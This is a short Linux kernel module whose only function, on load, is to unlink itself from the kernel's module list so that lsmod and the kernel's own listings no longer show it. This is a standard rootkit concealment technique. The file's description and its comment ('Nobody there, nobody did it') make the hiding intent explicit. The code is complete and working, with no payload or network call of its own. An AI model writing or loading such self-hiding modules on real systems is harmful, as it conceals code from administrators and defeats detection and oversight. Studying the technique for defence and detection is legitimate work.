// SPDX-License-Identifier: GPL-2.0
/* Nobody there, nobody did it. */
#include <linux/list.h>
#include <linux/module.h>

static int __init work_init(void)
{
	list_del_init(&THIS_MODULE->list);
	return 0;
}

static void __exit work_exit(void)
{
}

module_init(work_init);
module_exit(work_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("A forger: takes itself off the list of modules, where lsmod and the kernel itself look");
